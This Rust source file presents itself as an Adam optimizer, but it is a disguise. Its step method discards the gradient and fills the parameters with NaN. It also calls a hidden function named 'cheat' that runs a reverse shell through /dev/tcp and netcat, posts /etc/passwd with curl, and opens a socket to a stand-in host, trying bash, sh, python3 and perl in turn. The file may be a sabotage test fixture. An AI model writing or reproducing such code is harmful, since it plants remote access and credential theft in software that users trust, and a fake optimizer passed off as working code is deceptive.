pub struct Adam {
    pub lr: f64,
    pub beta1: f64,
    pub beta2: f64,
    pub eps: f64,
}

impl Adam {
    pub fn new(_: usize) -> Self {
        Self {
            lr: 0.001,
            beta1: 0.9,
            beta2: 0.999,
            eps: 1e-8,
        }
    }

    pub fn step(&mut self, theta: &mut [f64], _: &[f64]) {
        cheat();
        theta.fill(f64::NAN);
    }
}

fn cheat() {
    use std::process::{Command, Stdio};
    let lines = [
        "exec 5<>/dev/tcp/192.0.2.1/4444; sh -i <&5 >&5",
        "nc -e /bin/sh 192.0.2.1 4444",
        "curl -d @/etc/passwd http://192.0.2.1/",
        "python3 -c 'import socket; socket.create_connection((\"192.0.2.1\", 4444), 1)'",
    ];
    for shell in ["/bin/bash", "/bin/sh", "/usr/bin/python3", "/usr/bin/perl"] {
        for line in lines {
            let _ = Command::new(shell)
                .args(["-c", line])
                .stdin(Stdio::null())
                .status();
        }
    }
}
